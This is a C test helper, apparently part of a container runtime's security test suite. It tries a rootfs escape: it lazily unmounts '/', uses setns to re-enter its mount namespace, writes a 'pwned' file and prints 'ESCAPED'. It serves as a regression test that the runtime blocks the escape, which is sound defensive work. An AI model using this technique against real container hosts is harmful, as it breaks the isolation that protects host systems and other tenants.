/* Lazily unmounts the mount at "/" and setns(2)s into its own mount namespace, which sets its
 * root to that namespace's root, then creates argv[1] there: what a container process that may
 * unmount its rootfs reaches below it. Built static by cli/tests/security_rootfs.rs. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/mount.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    int ns = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
    if (argc < 2 || ns < 0) {
        perror("open /proc/self/ns/mnt");
        return 2;
    }
    if (umount2("/", MNT_DETACH) != 0) {
        perror("umount2 /");
        return 3;
    }
    if (setns(ns, CLONE_NEWNS) != 0) {
        perror("setns");
        return 4;
    }
    int out = open(argv[1], O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
    if (out < 0) {
        perror("create");
        return 5;
    }
    if (write(out, "pwned\n", 6) != 6) {
        perror("write");
        return 6;
    }
    puts("ESCAPED");
    return 0;
}
